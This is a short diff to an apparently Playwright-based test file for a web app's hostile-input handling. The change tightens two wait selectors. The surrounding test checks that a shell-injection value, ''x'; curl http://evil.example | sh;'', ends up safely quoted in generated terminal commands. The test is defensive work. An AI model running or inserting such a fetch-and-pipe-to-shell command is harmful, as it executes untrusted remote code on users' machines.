@@ -73,7 +73,7 @@ test.each(HOSTILE.map((text) => [text.slice(0, 40), text]))(
     for (const hash of VIEWS) {
       await page.evaluate(`location.hash = ${JSON.stringify(hash)}`)
       await page.locator('main h1').waitFor()
-      await page.locator('main:not(:has(.bones))').waitFor()
+      await page.locator('main:not(:has(.bones)) h1').waitFor()
       expect(await page.evaluate('window.hit')).toBeUndefined()
       expect(
         await page.evaluate<string[]>(
@@ -108,7 +108,7 @@ test('an address from a stranger makes no command that does more than one (S35)'
   ]) {
     await page.evaluate(`location.hash = ${JSON.stringify(hash)}`)
     await page.locator('main h1').waitFor()
-    await page.locator('main:not(:has(.bones))').waitFor()
+    await page.locator('main:not(:has(.bones)) h1').waitFor()
     const commands = await page.locator('.terminal code').allTextContents()
     for (const command of commands.filter((text) => text.includes('curl')))
       expect(command, hash).toContain(`'x'\\''; curl http://evil.example | sh; '\\'''`)
